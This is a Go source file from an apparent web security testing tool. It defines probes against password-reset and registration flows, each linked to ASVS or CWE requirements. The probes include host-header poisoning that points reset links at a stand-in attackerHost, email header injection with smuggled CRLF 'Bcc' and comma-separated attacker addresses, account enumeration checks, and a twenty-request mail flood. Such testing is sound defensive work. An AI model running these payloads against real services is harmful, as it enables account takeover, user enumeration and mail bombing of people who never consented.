package contract

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
)

// accountAttacks abuse the mails of an account.
var accountAttacks = []Attack{
	{ID: "account.reset-revealed", Text: "The response to a request for a new password tells whether an account exists.", Requirement: "RG-01", Source: "ASVS 6.3.8", Severity: Medium, needs: needReset,
		run: func(ctx context.Context, p *probe) error { return p.revealed(ctx, p.ResetPath, p.User.Name) }},
	{ID: "account.register-revealed", Text: "The response to a registration tells whether an account exists.", Requirement: "RG-01", Source: "ASVS 6.3.8", Severity: Medium, needs: needRegister,
		run: func(ctx context.Context, p *probe) error { return p.revealed(ctx, p.RegisterPath, p.User.Name) }},
	{ID: "account.reset-host", Text: "A request for a new password names another host, so that the link in the mail leads there.", Requirement: "RG-06", Source: "CWE-640; OWASP Forgot Password Cheat Sheet", Severity: Critical, needs: needReset | needMails,
		run: func(ctx context.Context, p *probe) error {
			arrived := false
			for _, name := range []string{"Host", "X-Forwarded-Host", "Forwarded", "Origin", "Referer", "X-Forwarded-Proto"} {
				account, err := p.mailbox(ctx) // a service sends few mails to one address
				if err != nil {
					return err
				}
				before := p.mailsTo(account)
				m := p.mail(p.ResetPath, account.Name)
				switch name {
				case "Host":
					m.host = attackerHost
				case "Forwarded":
					m.header.Set(name, "host="+attackerHost)
				default:
					m.header.Set(name, "https://"+attackerHost+"/")
				}
				a, err := p.send(ctx, m)
				switch {
				case err != nil:
					return err
				case a.throttled():
					return errThrottled
				case a.status < 400 && p.arrives(ctx, account, before):
					arrived = true
				}
			}
			if slices.ContainsFunc(p.Mails(), func(text string) bool { return strings.Contains(text, attackerHost) }) {
				return succeeded("a mail has the name of the host that the request named")
			}
			if !arrived {
				return &inapplicable{"the service sends no mail for a request with another host, or to one address so often"}
			}
			return nil
		}},
	{ID: "account.reset-address", Text: "The address of a request for a new password has a second address, which also gets the mail.", Requirement: "RG-05", Source: "CWE-93", Severity: Critical, needs: needReset | needMails,
		run: func(ctx context.Context, p *probe) error {
			account, err := p.mailbox(ctx)
			if err != nil {
				return err
			}
			name := account.Name
			for _, address := range []string{name + ",x@" + attackerHost, name + "\r\nBcc: x@" + attackerHost, name + ";x@" + attackerHost, name + " x@" + attackerHost, "x@" + attackerHost + "," + name} {
				if _, err := p.send(ctx, p.mail(p.ResetPath, address)); err != nil {
					return err
				}
			}
			twice := p.mail(p.ResetPath, name)
			twice.body += "&email=" + url.QueryEscape("x@"+attackerHost)
			if _, err := p.send(ctx, twice); err != nil {
				return err
			}
			if err := p.resetWorks(ctx); err != nil { // the mails before this one have been sent
				return err
			}
			if slices.ContainsFunc(p.Mails(), func(text string) bool { return strings.Contains(text, attackerHost) }) {
				return succeeded("a mail has the address of the attacker")
			}
			return nil
		}},
	{ID: "account.mail-flood", Text: "A stranger causes twenty mails to the address of a user.", Requirement: "RG-13", Source: "OWASP Forgot Password Cheat Sheet", Severity: Low, needs: needReset | needMails | needNewAccount,
		run: func(ctx context.Context, p *probe) error {
			account, err := p.mailbox(ctx)
			if err != nil {
				return err
			}
			before := p.mailsTo(account)
			for range 20 {
				if _, err := p.send(ctx, p.mail(p.ResetPath, account.Name)); err != nil {
					return err
				}
			}
			if err := p.resetWorks(ctx); err != nil { // the mails before this one have been sent
				return err
			}
			if n := p.mailsTo(account) - before; n > 10 {
				return succeeded("twenty requests sent %d mails to one address", n)
			}
			return nil
		}},
	{ID: "account.reset-url", Text: "A link or an image asks for a mail.", Requirement: "RG-07", Source: "ASVS 3.5.3", Severity: Low, needs: needReset | needMails,
		run: func(ctx context.Context, p *probe) error {
			account, err := p.mailbox(ctx)
			if err != nil {
				return err
			}
			before := p.mailsTo(account)
			if _, err := p.send(ctx, message{method: http.MethodGet, path: p.ResetPath + "?" + url.Values{"email": {account.Name}}.Encode()}); err != nil {
				return err
			}
			if p.NewAccount != nil {
				if err := p.resetWorks(ctx); err != nil { // a mail of the first request has been sent
					return err
				}
			}
			if after := p.mailsTo(account); after > before {
				return succeeded("a GET request sent a mail")
			}
			return nil
		}},
}

// mailbox returns an account to which the service sent no mail, or Target.User.
func (p *probe) mailbox(ctx context.Context) (Account, error) {
	if p.NewAccount == nil {
		return p.User, nil
	}
	return p.fresh(ctx, firstPassword)
}

// mail returns a request that sends a mail.
func (p *probe) mail(path, address string) message {
	return message{
		method: http.MethodPost, path: path, body: url.Values{"email": {address}}.Encode(),
		header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
	}
}

// revealed compares the responses for an address that has an account and for
// one that has none.
func (p *probe) revealed(ctx context.Context, path, known string) error {
	_, domain, _ := strings.Cut(known, "@")
	unknown := "unknown-contract@" + domain
	first, err := p.send(ctx, p.mail(path, known))
	if err != nil {
		return err
	}
	second, err := p.send(ctx, p.mail(path, unknown))
	if err != nil {
		return err
	}
	switch {
	case first.throttled() || second.throttled():
		return errThrottled
	case first.status >= 400 && second.status >= 400:
		return fmt.Errorf("%s responds with %d", path, first.status)
	case first.status != second.status:
		return succeeded("the status is %d for an account, and %d for another address", first.status, second.status)
	}
	again, err := p.send(ctx, p.mail(path, "another-"+unknown))
	switch {
	case err != nil:
		return err
	case !alike(strings.ReplaceAll(first.body, known, ""), strings.ReplaceAll(second.body, unknown, ""), strings.ReplaceAll(again.body, "another-"+unknown, "")):
		return succeeded("the bodies differ")
	}
	noise := append(differing(second.header, again.header), "Content-Length")
	if names := slices.DeleteFunc(differing(first.header, second.header), func(n string) bool { return slices.Contains(noise, n) }); len(names) > 0 {
		return succeeded("these headers differ: %s", strings.Join(names, ", "))
	}
	return nil
}
